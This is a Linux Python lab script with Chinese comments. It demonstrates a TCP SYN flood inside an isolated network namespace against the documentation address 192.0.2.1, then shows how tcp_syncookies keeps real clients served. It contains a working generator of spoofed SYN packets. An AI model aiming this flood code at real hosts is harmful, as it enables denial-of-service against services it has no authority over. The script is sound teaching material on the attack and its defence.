"""Linux:伪造的 SYN 占满半连接队列。在自己的网络空间里做,别的机器收不到一个报文:
unshare -rn python3 tcp_syn_flood.py
"""
import fcntl
import os
import select
import socket
import struct
import subprocess
import time

SERVER = ("192.0.2.1", 8080)  # 文档用的地址(RFC 5737);192.0.2.0/24 的其余主机都不存在
COOKIES = "/proc/sys/net/ipv4/tcp_syncookies"


def tunnel():
    """一块虚拟网卡:内核从它发出的 IP 报文由我们读,我们写的就是它收到的。"""
    tun = os.open("/dev/net/tun", os.O_RDWR)
    fcntl.ioctl(tun, 0x400454CA, struct.pack("16sH", b"tun0", 0x1001))  # TUNSETIFF,IFF_TUN | IFF_NO_PI
    for words in ("address add 192.0.2.1/24 dev tun0", "link set tun0 up", "link set lo up"):
        subprocess.run(["ip", *words.split()], check=True)
    return tun


def checksum(data):
    """16 位反码和(RFC 1071)。"""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def syn(host, port):
    """一个 SYN,源地址是不存在的 192.0.2.host。"""
    source, target = bytes([192, 0, 2, host]), socket.inet_aton(SERVER[0])
    tcp = struct.pack("!HHIIBBHHH", port, SERVER[1], 1000, 0, 5 << 4, 0x02, 65535, 0, 0)
    pseudo = source + target + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0, source, target)
    return ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + tcp


def half_open():
    """有几个 SYN-RECEIVED。"""
    with open("/proc/net/tcp", encoding="ascii") as table:
        return sum(line.split()[3] == "03" for line in table)


def served():
    """一位真的客户连得上吗。"""
    with socket.socket() as client:
        client.settimeout(0.5)
        return client.connect_ex(SERVER) == 0


def listening(backlog):
    """监听 SERVER。"""
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(SERVER)
    listener.listen(backlog)
    return listener


tun = tunnel()
with listening(16):
    start = time.monotonic()
    os.write(tun, syn(2, 40000))
    seen = []
    while select.select([tun], [], [], max(0, start + 3.5 - time.monotonic()))[0]:
        packet = os.read(tun, 2048)
        if packet[0] == 0x45 and packet[33] == 0x12:  # IPv4,没有选项;SYN+ACK
            seen.append(round(time.monotonic() - start))
    print("没有人回 ACK,SYN+ACK 在第几秒发出:", seen, "半连接:", half_open())

for cookies in ("0", "1"):
    with open(COOKIES, "w", encoding="ascii") as file:
        file.write(cookies)
    with listening(16):
        for port in range(40000, 40500):
            os.write(tun, syn(3, port))
        print(f"tcp_syncookies={cookies},500 个假 SYN 之后,半连接不到 20 个:{half_open() < 20},真的客户连得上:{served()}")
